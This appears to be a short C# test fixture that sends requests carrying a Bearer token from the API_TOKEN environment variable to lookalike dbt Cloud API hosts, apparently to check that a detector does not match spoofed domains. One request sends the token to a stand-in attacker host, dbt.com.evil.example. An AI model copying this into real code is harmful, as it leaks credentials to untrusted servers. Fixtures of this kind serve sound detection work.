using System.Net.Http.Headers;

using HttpClient http = new();
http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Environment.GetEnvironmentVariable("API_TOKEN"));

Console.WriteLine(await http.GetStringAsync("https://notdbt.com/api/v2/accounts/"));
Console.WriteLine(await http.GetStringAsync("https://dbt.com.evil.example/api/v2/accounts/"));
Console.WriteLine(await http.GetStringAsync("https://mydbt.company.example/api/v2/accounts/?limit=900"));
Console.WriteLine(await http.GetStringAsync("https://example.com/?next=https://ab123.us1.dbt.com/api/v2/accounts/"));
